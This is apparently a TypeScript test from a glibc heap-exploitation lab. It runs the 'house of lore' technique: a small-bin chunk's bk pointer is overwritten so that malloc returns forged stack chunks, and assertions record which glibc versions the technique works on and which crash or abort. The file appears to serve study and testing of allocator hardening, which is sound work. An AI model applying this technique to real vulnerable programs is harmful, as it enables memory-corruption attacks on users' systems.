/**
 * house_of_lore: overwrite the bk of a chunk in a small bin with a fake chunk on the stack,
 * whose fd points back at the real chunk (so "malloc(): smallbin double linked list corrupted"
 * passes) and whose bk leads to a second fake chunk pointing back at the first. The malloc
 * that takes the real chunk leaves the fake one as the bin's last chunk, and the next malloc
 * of that size returns it. On tcache builds, taking the real chunk also stashes the following
 * chunks of the bin into the tcache: the fakes continue into a fake free list long enough to
 * fill it, and the next malloc returns the last fake chunk stashed.
 */

import assert from "node:assert/strict";
import { FASTBIN_VERSIONS, type Lab, NO_FASTBIN_VERSIONS, on, technique } from "./support.ts";

const REQUEST = 0x100;

/** The technique; `freeAfter` frees one more chunk of the victim's size after the overwrite. */
function lore(lab: Lab, freeAfter: boolean): void {
  const h = lab.heap, sz = lab.sz;
  const victim = h.malloc(REQUEST);
  const fillers = lab.tcacheFillers(REQUEST);
  h.malloc(0x10); // keeps victim and another apart
  const another = h.malloc(REQUEST);
  // Fake chunks 0x200 apart (malloc sets the in-use bit 0x110 bytes past each one it takes).
  const stack = lab.mapStack();
  const fake = Array.from({ length: 9 }, (_, i) => stack + 0x200 * (i + 1) - 2 * sz);
  const [buffer1, buffer2, ...freelist] = fake;
  lab.write(buffer1 + 2 * sz, lab.chunk(victim)); // fd: back to the real chunk
  lab.write(buffer1 + 3 * sz, buffer2); // bk
  lab.write(buffer2 + 2 * sz, buffer1); // fd: back to buffer1
  lab.write(buffer2 + 3 * sz, freelist[0]);
  for (let i = 0; i + 1 < freelist.length; i++) lab.write(freelist[i] + 3 * sz, freelist[i + 1]);
  h.malloc(1000); // keeps victim away from top
  lab.freeAll(fillers);
  h.free(victim);
  h.malloc(1200); // sorts victim into its small bin
  assert.deepEqual(h.bins().smallbins.map((b) => b.chunks), [[lab.chunk(victim)]]);
  lab.vulnerability();
  lab.setWord(victim, 1, buffer1); // victim->bk
  if (freeAfter) h.free(another); // the tcache bin is full: to the unsorted or small bin
  lab.mallocs(fillers.length, REQUEST); // empty the tcache
  assert.equal(h.malloc(REQUEST), victim);
  const p4 = h.malloc(REQUEST);
  // Without tcache the bin's last chunk is buffer1; with it, the last of the 7 fakes stashed.
  const expected = lab.tcache ? fake[lab.profile.tcacheFillCount - 1] : buffer1;
  assert.equal(p4, lab.mem(expected));
}

technique({
  name: "house_of_lore",
  claim: "malloc returns a fake chunk on the stack",
  outcomes: {
    ...on(FASTBIN_VERSIONS, "works"),
    // 2.43+: with 16 tcache slots and small chunks freed straight to their small bin, the
    // steps written for 7 slots leave the forged bk chain where malloc follows it into NULL.
    ...on(NO_FASTBIN_VERSIONS, { crashes: "the forged small-bin chain is followed into NULL" }),
  },
  run: (lab) => lore(lab, false),
});

// glibc 2.41 frees small chunks straight into their small bin, checking that the bin's first
// chunk points back at it: the overwritten victim->bk no longer survives a free of its size.
technique({
  name: "house_of_lore (another free of that size after the overwrite)",
  claim: "malloc returns a fake chunk on the stack",
  outcomes: {
    ...on(["2.23", "2.27", "2.31", "2.35", "2.36", "2.39"], "works"),
    "2.41": { aborts: "free(): chunks in smallbin corrupted", in: "free" },
  },
  run: (lab) => lore(lab, true),
});
